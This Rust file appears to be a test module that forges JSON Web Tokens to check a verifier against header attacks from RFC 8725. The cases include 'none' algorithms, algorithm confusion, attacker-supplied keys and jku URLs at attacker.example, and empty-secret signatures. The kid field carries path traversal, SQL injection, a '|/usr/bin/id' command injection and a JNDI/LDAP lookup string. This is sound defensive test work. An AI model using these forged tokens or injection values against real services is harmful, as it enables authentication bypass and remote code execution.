//! Attacks on what a token says about itself. All are signed by the right key, so that nothing but
//! the header speaks against them, unless they ask for another key or none.

use serde_json::{Value, json};

use super::forger::{
    Forger, changed, message, misshapen, repeated, shown, with_signature, written,
};
use super::keys::mac;
use super::{Case, case};

pub(super) fn controls(forger: &Forger<'_>) -> Vec<Case> {
    let (alg, kid) = (forger.header["alg"].clone(), forger.header["kid"].clone());
    vec![
        case("without typ", forger.with_header("typ", None)),
        case(
            "in another order, with blanks",
            forger.with_header_text(format!("{{ \"kid\" : {kid},\n\t\"alg\":{alg} }} ")),
        ),
        case(
            "with an escape",
            forger.with_header_text(format!("{{\"\\u0061lg\":{alg},\"kid\":{kid}}}")),
        ),
    ]
}

pub(super) fn attacks(forger: &Forger<'_>) -> Vec<Case> {
    let (kids, types) = (names_of_keys(forger), types(forger));
    let tables = [algorithms(forger), embedded_keys(forger), kids, types, shapes(forger)];
    tables.into_iter().flatten().collect()
}

/// RFC 8725, section 2.1: "none", in all letter cases, and algorithms that are not the key's.
fn algorithms(forger: &Forger<'_>) -> Vec<Case> {
    let mut attacks = Vec::new();
    for cases in 0..16_u32 {
        let letter = |(place, letter): (usize, char)| {
            if cases >> place & 1 == 1 { letter.to_ascii_uppercase() } else { letter }
        };
        let none: String = "none".chars().enumerate().map(letter).collect();
        let signed = forger.with_header("alg", Some(json!(none)));
        let unsigned = signed.rsplit_once('.').unwrap().0;
        attacks.push(case(format!("alg {none}, without signature"), format!("{unsigned}.")));
        attacks.push(case(format!("alg {none}, and two parts"), unsigned));
        attacks.push(case(format!("alg {none}, and signed"), signed));
    }
    let others = [
        "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS512", "ES256", "ES256K",
        "ES384", "ES512", "EdDSA", "Ed25519", "Ed448", "dir", "A128KW", "RSA-OAEP", "eddsa",
        "es256", "hs256", "EDDSA", "HS256 ", " HS256", "HS256\0", "EdDSA\n", "",
    ];
    let others = others.into_iter().chain(["PBES2-HS256+A128KW"]);
    let own = forger.key.alg();
    for other in others.filter(|other| *other != own) {
        attacks.push(case(
            format!("alg {other:?} in place of {own}"),
            forger.with_header("alg", Some(json!(other))),
        ));
    }
    for value in [json!(null), json!(1), json!(true), json!([own]), json!({"name": own})] {
        attacks.push(case(format!("alg {value}"), forger.with_header("alg", Some(value))));
    }
    attacks.push(case("no alg", forger.with_header("alg", None)));
    attacks
}

/// RFC 8725, section 2.6 and 3.10: a token that brings its own key, or says where one is, and
/// members that must be understood (RFC 7515, section 4.1.11).
fn embedded_keys(forger: &Forger<'_>) -> Vec<Case> {
    let mine = b"a secret of the attacker's own making";
    let url = "https://attacker.example/key";
    let members = [
        ("jwk", json!({"kty": "oct", "k": "YSBzZWNyZXQgb2YgdGhlIGF0dGFja2VyJ3Mgb3duIG1ha2luZw"})),
        ("jwk", json!({"kty": "OKP", "crv": "Ed25519", "x": "A".repeat(43)})),
        ("jwk", json!(null)),
        ("jku", json!(url)),
        ("jku", json!("file:///dev/null")),
        ("x5u", json!(url)),
        ("x5c", json!(["MIIB"])),
        ("x5c", json!([])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["alg"])),
        ("crit", json!(["http://attacker.example/unknown"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("cty", json!("JWT")),
        ("epk", json!({})),
        ("p2c", json!(2_147_483_647)),
        ("iv", json!("AAAA")),
        ("url", json!(url)),
        ("nonce", json!("x")),
        ("unknown", json!(1)),
        ("ALG", json!("none")),
        ("", json!("")),
    ];
    let mut attacks = Vec::new();
    for (name, value) in members {
        let named = format!("{name}: {value}");
        attacks.push(case(
            format!("{named}, rightly signed"),
            forger.with_header(name, Some(value.clone())),
        ));
        // By the key that it brings: its name stays, or is that of no key, or none is given.
        for kid in [forger.header["kid"].clone(), json!("attacker"), Value::Null] {
            let mut header = forger.header.clone();
            header["alg"] = json!("HS256");
            header["kid"] = kid;
            header[name] = value.clone();
            let message = message(header.to_string(), forger.payload.to_string());
            let signature = mac(aws_lc_rs::hmac::HMAC_SHA256, mine, message.as_bytes());
            attacks.push(case(
                format!("{named}, signed by the attacker as {}", header["kid"]),
                with_signature(&message, &signature),
            ));
        }
    }
    attacks
}

/// RFC 8725, section 3.10: the key's name as a way into files, queries and other keys.
fn names_of_keys(forger: &Forger<'_>) -> Vec<Case> {
    let kid = forger.key.kid.as_str();
    let (kind, number) = kid.rsplit_once('-').unwrap();
    let (prefix, second) = kind.rsplit_once('-').unwrap();
    let texts = [
        "", " ", "../K", "./K", "K.pem", "K.secret", "K\0", "K\0.pem", "\0K", "K ", " K", "K\n",
        "K'", "P-+S-N", "P-0S-N", "P-S-0N", "P-S-N-", "P-S",
    ];
    let parts = [('K', kid), ('P', prefix), ('S', second), ('N', number)];
    let mut values: Vec<Value> = written(&texts, &parts).into_iter().map(Value::from).collect();
    for other in ["null", "0", "-1", "1.5", "true", "[]", &format!("[\"{kid}\"]")] {
        values.push(serde_json::from_str(other).unwrap());
    }
    values.extend([
        json!({"kid": kid}),
        json!(format!("../keys/{kid}")),
        json!("../../../../dev/null"),
        json!("/dev/null"),
        json!(kid.to_uppercase()),
        json!(format!("{prefix}-{second}-+{}", &number[1..])),
        json!(format!("{prefix}-{second}-{}", number.replace(|c: char| c.is_ascii_digit(), "٣"))),
        json!(format!("{prefix}-9999999999-00000000")),
        json!(format!("{prefix}-99999999999999999999999-{number}")),
        json!("' UNION SELECT 'secret' --"),
        json!("key\" OR \"1\"=\"1"),
        json!("|/usr/bin/id"),
        json!("${jndi:ldap://attacker.example/a}"),
        json!("https://attacker.example/jwks.json"),
        json!("x".repeat(2_000)),
        json!(format!("{kid}{}", "0".repeat(1_000))),
        json!(forger.other_key.kid),
        json!(forger.ring.ticket.kid),
        json!(forger.retired_key.kid),
    ]);
    let mut attacks = vec![case("no kid", forger.with_header("kid", None))];
    for value in values {
        assert_ne!(value, forger.header["kid"]);
        let name = format!("kid {:.60}", value.to_string());
        // As Wycheproof and others have it: a file that is empty is a secret that is known.
        let header = changed(&forger.header, "kid", Some(value.clone()));
        let header = header.replace(forger.key.alg(), "HS256");
        let empty = message(header, forger.payload.to_string());
        let signature = mac(aws_lc_rs::hmac::HMAC_SHA256, b"", empty.as_bytes());
        attacks.push(case(format!("{name}, by no secret"), with_signature(&empty, &signature)));
        attacks.push(case(name, forger.with_header("kid", Some(value))));
    }
    attacks
}

/// RFC 8725, section 3.11: tokens that say they are something else.
fn types(forger: &Forger<'_>) -> Vec<Case> {
    let texts = ["", "jwt", "Jwt", "JWT ", "JWE", "JOSE", "JOSE+JSON", "at+jwt", "dpop+jwt"];
    let longer = ["application/jwt", "revoked-sessions+jwt", "secevent+jwt"];
    let others = [json!(1), json!(true), json!(["JWT"]), json!({"typ": "JWT"})];
    let typed = |value: Value| case(format!("typ {value}"), forger.with_header("typ", Some(value)));
    let texts = texts.into_iter().chain(longer).map(Value::from);
    texts.chain(others).map(typed).collect()
}

/// Headers that can be read two ways, or not at all.
fn shapes(forger: &Forger<'_>) -> Vec<Case> {
    let good = forger.header.to_string();
    let (alg, kid) = (&forger.header["alg"], &forger.header["kid"]);
    let nested = (0..100).fold(json!([]), |inner, _| json!([inner]));
    let mut texts = misshapen(&forger.header);
    let others = [
        format!("[{alg},{kid}]"),
        good.replace("HS256", "HS256\u{0}").replace("DSA", "DSA\u{0}").replace("ES2", "ES2\u{0}"),
        changed(&forger.header, "alg", Some(nested)),
        format!("{{\"alg\":{}{}}}", "[".repeat(700), "]".repeat(700)),
    ];
    texts.extend(others.map(String::into_bytes));
    for (name, value) in [("alg", "\"none\""), ("kid", "\"other\""), ("typ", "\"JWE\"")] {
        for value in [value, &forger.header[name].to_string()] {
            texts.extend(repeated(&forger.header, name, value).map(String::into_bytes));
        }
    }
    texts.iter().map(|text| case(shown(text), forger.with_header_text(text))).collect()
}
